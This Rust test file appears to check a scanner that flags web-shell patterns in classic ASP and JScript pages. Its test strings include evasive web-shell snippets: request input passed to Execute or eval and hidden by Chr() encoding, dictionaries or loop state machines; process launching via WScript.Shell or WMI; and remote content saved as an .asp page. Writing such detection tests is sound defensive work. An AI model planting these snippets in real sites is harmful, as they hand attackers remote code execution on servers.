//! Pieces of classic ASP, each with what only looks like it.

use crate::judge;
use crate::kind::Kind;

/// The signals of a page, without those that say that a text is run at all.
fn codes(page: &str) -> Vec<&'static str> {
    let mut codes: Vec<_> =
        judge(page.as_bytes(), Kind::Asp).signals.iter().map(|signal| signal.code).collect();
    codes.sort_unstable();
    codes.dedup();
    codes
}

#[test]
fn a_member_that_is_called_execute_runs_no_program() {
    assert_eq!(
        codes("<% Execute sent %><% sent = Request(\"q\") : Execute(sent) %>"),
        ["evaluates", "visitor-evaluated"]
    );
    assert_eq!(codes("<% sent = Request(\"q\") : conn.Execute(\"x\" & sent) %>"), [""; 0]);
    assert_eq!(codes("<% Execute \"Update [t] Set a='\" & Request(\"q\") & \"'\" %>"), ["visitor-in-query"]);
}

#[test]
fn what_stands_round_a_sent_text_makes_it_a_part() {
    assert_eq!(codes("<% Execute \"x=o.\" & Request(\"q\") %>"), ["visitor-in-program"]);
    assert_eq!(codes("<% Execute Request(\"q\") & \"\" %>"), ["visitor-evaluated"]);
}

/// A function that takes a text to pieces in a loop, and what is done with what it gives.
fn decoder(given: &str, done: &str) -> String {
    format!(
        "<% Function f(s)\nFor i = 1 To Len(s)\nIf Mid(s, i, 1) = \"!\" Then\nt = vbCrLf & t\nElse\nt = Mid(s, i, 1) & t\nEnd If\nNext\n\
         f = t\nEnd Function\n{done} f({given}) %>"
    )
}

#[test]
fn a_decoder_of_the_pages_own_hides_what_is_run() {
    let text = "\"the text of an example, backwards\"";
    assert_eq!(codes(&decoder(text, "Execute")), ["decoded-evaluated"]);
    assert_eq!(codes(&decoder(text, "Response.Write")), [""; 0]);
    assert_eq!(codes(&decoder("x.Item(\"template\")", "Execute")), ["evaluates"]);
}

#[test]
fn a_text_that_is_put_together_is_read() {
    assert_eq!(codes("<% Execute Chr(120) & Chr(61) & Chr(49) %>"), ["hidden-evaluated"]);
    assert!(codes("<% Execute \"Exe\" & \"cute Request(\"\"q\"\")\" %>").contains(&"visitor-evaluated"));
}

#[test]
fn what_an_evaluated_text_comes_to_is_used() {
    let page = |object: &str| format!("<% Execute Eval({object})(\"q\") %>");
    assert!(codes(&page("Chr(114) & \"equest\"")).contains(&"visitor-evaluated"));
    assert!(!codes(&page("Chr(114) & \"esults\"")).contains(&"visitor-evaluated"));
}

#[test]
fn a_page_that_asks_its_own_server_is_told_from_one_that_asks_another() {
    let page = |host: &str| {
        format!(
            "<% Set x = CreateObject(\"MSXML2.XMLHTTP\") : x.Open \"GET\", \"http://{host}:\" & Request(\"q\") & \"/a\" %>"
        )
    };
    assert_eq!(codes(&page("127.0.0.1")), ["visitor-in-fetch", "visitor-in-loopback"]);
    assert_eq!(codes(&page("example.org")), ["visitor-in-fetch"]);
}

#[test]
fn settings_that_are_written_as_a_page_are_a_part_of_it() {
    let page = |sent: &str| {
        format!(
            "<% Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(\"c:\\a.asp\") : f.Write {sent} %>"
        )
    };
    assert_eq!(codes(&page("Request(\"q\")")), ["visitor-wrote-page"]);
    assert_eq!(codes(&page("\"a = \" & Request(\"q\") & vbCrLf")), ["visitor-in-page"]);
}

#[test]
fn functions_of_jscript_are_called_by_other_names() {
    let page = |called: &str| {
        format!("<%@ Language=JScript %><% var o = {{'Run': {called}}}; o.Run(Request.Form('q') + ''); %>")
    };
    assert_eq!(codes(&page("eval")), ["visitor-evaluated"]);
    assert_eq!(codes(&page("example")), [""; 0]);
}

#[test]
fn objects_of_tags_are_components() {
    let page = |class: &str| {
        format!("<object runat=server id=o classid=\"clsid:{class}\"></object><% o.Run Request(\"q\") %>")
    };
    assert_eq!(codes(&page("72C24DD5-D70A-438B-8A42-98424B88AFB8")), ["visitor-started"]);
    assert_eq!(codes(&page("00000000-0000-0000-0000-000000000000")), [""; 0]);
}

#[test]
fn components_are_named_by_monikers_too() {
    let page = |name: &str, does: &str| format!("<% GetObject(\"{name}\").{does} Request(\"q\") %>");
    assert_eq!(codes(&page("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}", "Run")), ["visitor-started"]);
    assert_eq!(codes(&page("new:{00000000-0000-0000-0000-000000000000}", "Run")), [""; 0]);
    assert_eq!(codes(&page("winmgmts:root\\cimv2:Win32_Process", "Create")), ["visitor-started"]);
    assert_eq!(codes(&page("example:root\\cimv2:Win32_Process", "Create")), [""; 0]);
    assert_eq!(codes("<% GetObject(\"script:\" & Request(\"q\")) %>"), ["visitor-loaded"]);
}

#[test]
fn headers_are_sent_by_visitors_and_the_names_of_the_server_are_not() {
    let page = |variable: &str| format!("<% Execute Request.ServerVariables(\"{variable}\") %>");
    assert_eq!(codes(&page("HTTP_X_EXAMPLE")), ["visitor-evaluated"]);
    assert_eq!(codes(&page("HTTP_HOST")), ["evaluates"]);
    assert_eq!(codes(&page("SCRIPT_NAME")), ["evaluates"]);
}

#[test]
fn what_else_runs_a_text() {
    let page = |of: &str| format!("<%@ Language=JScript %><% {of}(Request.Form('q') + ''); %>");
    assert_eq!(codes(&page("new Function")), ["visitor-evaluated"]);
    assert!(!codes(&page("new Example")).contains(&"visitor-evaluated"));
    assert_eq!(codes(&page("new ActiveXObject('htmlfile').parentWindow.execScript")), ["visitor-evaluated"]);
}

#[test]
fn what_another_server_sends_is_kept_as_a_page_or_as_data() {
    let page = |file: &str| {
        format!(
            "<% Set x = CreateObject(“MSXML2.XMLHTTP”) : x.Open \"GET\", \"http://example.org/a\", False : x.Send\n\
             Set s = CreateObject(\"ADODB.Stream\") : s.Write x.responseBody : s.SaveToFile Server.MapPath(\"{file}\"), 2 %>"
        )
    };
    assert_eq!(codes(&page("a.asp")), ["remote-planted"]);
    assert_eq!(codes(&page("a.xml")), ["remote-written"]);
}

#[test]
fn a_page_that_writes_itself_is_told_from_one_that_writes_beside_itself() {
    let page = |place: &str| {
        format!(
            "<% Set f = CreateObject(\"Scripting.FileSystemObject\").CreateTextFile(Server.MapPath({place})) : f.Write Request(\"q\") %>"
        )
    };
    assert_eq!(codes(&page("Request.ServerVariables(\"SCRIPT_NAME\")")), ["visitor-wrote-page"]);
    assert_eq!(codes(&page("Request.ServerVariables(\"SCRIPT_NAME\") & \".log\"")), ["visitor-text-kept"]);
}

#[test]
fn a_function_that_is_referred_to_is_called() {
    let page = |called: &str| format!("<%Set f = GetRef(\"g\")\nf {called}\nSub g(x)\nexecute x\nEnd Sub%>");
    assert!(codes(&page("Request(\"q\")")).contains(&"visitor-evaluated"));
    assert!(!codes(&page("\"q\"")).contains(&"visitor-evaluated"));
}

#[test]
fn what_a_loop_spells_may_be_called_by_a_text_that_is_evaluated() {
    let page = |spelled: &str, given: &str| {
        format!(
            "<% c = Array(101, 118): For i = 0 To UBound(c): s = s & {spelled}: Next: q = {given}: Execute s & \"(q)\" %>"
        )
    };
    let signals = |spelled: &str, given: &str| codes(&page(spelled, given));
    assert!(signals("Chr(c(i))", "Request(\"q\")").contains(&"decoded-invoked-with-visitors"));
    assert!(!signals("Chr(c(i))", "\"1\"").contains(&"decoded-invoked-with-visitors"));
    assert!(!signals("names(i)", "Request(\"q\")").contains(&"decoded-invoked-with-visitors"));
}

#[test]
fn what_is_set_in_one_way_alone_is_known_behind_it() {
    let page = |ways: &str| format!("<% Dim f: {ways}: Execute f & \"(Request(\"\"q\"\"))\" %>");
    let one = page("If n > 3 Then f = \"eval\"");
    assert!(codes(&one).contains(&"visitor-evaluated"));
    let two = page("If n > 3 Then f = \"eval\" Else f = \"trim\"");
    assert!(!codes(&two).contains(&"visitor-evaluated"));
}

#[test]
fn a_program_may_be_cut_up_into_the_states_of_a_loop() {
    let page = |last: &str| {
        format!(
            "<%
             Dim n, a, b, c
             Do While n < 3
               Select Case n
                 Case 0: a = \"ev\" & \"al\": n = 1
                 Case 1: b = \"q\": n = 2
                 Case 2: c = a & \"(Request(\"\"\" & b & \"\"\"))\": {last}: n = 3
               End Select
             Loop
             %>"
        )
    };
    assert!(codes(&page("Execute c")).contains(&"visitor-evaluated"));
    assert!(!codes(&page("Response.Write c")).contains(&"visitor-evaluated"));
}

/// A style sheet with a function of its own, as a page puts it into quotes.
fn sheet(body: &str) -> String {
    let text = format!(
        "<x:stylesheet><m:script language='JScript' implements-prefix='u'>function run(a) {{ {body} }}</m:script></x:stylesheet>"
    );
    text.replace('"', "\"\"")
}

#[test]
fn a_style_sheet_brings_script_that_runs() {
    let applied = |document: &str, body: &str| {
        format!(
            "<% Set d = CreateObject(\"MSXML2.DOMDocument\") : Set s = Server.CreateObject(\"Microsoft.XMLDOM\")\n\
             d.loadXML(\"<r>\" & {document} & \"</r>\") : s.loadXML(\"{}\")\nd.transformNode(s) %>",
            sheet(body)
        )
    };
    let starts = "new ActiveXObject(\"WScript.Shell\").Exec(a);";
    assert_eq!(codes(&applied("\"x\"", starts)), ["fixed-command"]);
    assert_eq!(codes(&applied("Request(\"q\")", starts)), ["visitor-in-command"]);
    assert_eq!(codes(&applied("Request(\"q\")", "return a.length;")), [""; 0]);
    assert_eq!(codes(&applied("\"x\"", "eval(Request(\"q\").Item);")), ["visitor-evaluated"]);
}

#[test]
fn a_dictionary_holds_what_is_put_into_it() {
    let of = |read: &str| {
        format!(
            "<% Set d = CreateObject(\"Scripting.Dictionary\")\nd.Add \"a\", Request(\"q\")\nd.Add \"b\", \"x = 1\"\nExecute {read} %>"
        )
    };
    assert_eq!(codes(&of("d.Item(\"a\")")), ["visitor-evaluated"]);
    assert_eq!(codes(&of("d(\"a\")")), ["visitor-evaluated"]);
    assert!(!codes(&of("d.Item(\"b\")")).contains(&"visitor-evaluated"));
    let spelled = "<% Set d = CreateObject(\"Scripting.Dictionary\")\nd.Add 1, \"ev\"\nd.Add 2, \"al(req\"\n\
                   Execute d.Item(1) & d.Item(2) & \"uest(1))\" %>";
    assert!(codes(spelled).contains(&"visitor-evaluated"));
}

#[test]
fn the_states_of_a_loop_build_on_one_another() {
    let machine = |first: &str, step: &str| {
        format!(
            "<% s = {first}\nDo While s < 3\nSelect Case s\nCase 0\na = Join(Array(\"ev\", \"al\"), \"\") : {step}\nCase 1\n\
             b = \"(requ\" & \"est(1))\" : {step}\nCase 2\nc = a & b : {step}\nEnd Select\nLoop\nExecute c %>"
        )
    };
    assert!(codes(&machine("0", "s = s + 1")).contains(&"visitor-evaluated"));
    // From another state on, the last one finds nothing; and states that nobody knows are gone through as far as can be told.
    assert!(!codes(&machine("2", "s = s + 1")).contains(&"visitor-evaluated"));
    assert!(codes(&machine("example()", "s = example()")).contains(&"evaluates"));
}

#[test]
fn of_ways_whose_choice_is_known_one_is_taken() {
    let chosen = |choice: &str| {
        format!(
            "<% Select Case {choice}\nCase 1, 4\nx = \"y = 1\"\nCase 2\nx = \"eval(request(1))\"\nCase Else\nx = \"z = 1\"\nEnd Select\nExecute x %>"
        )
    };
    assert!(codes(&chosen("4 - 2")).contains(&"visitor-evaluated"));
    for other in ["1", "4", "7"] {
        assert!(!codes(&chosen(other)).contains(&"visitor-evaluated"), "{other}");
    }
    assert!(codes(&chosen("example()")).contains(&"evaluates"));
}
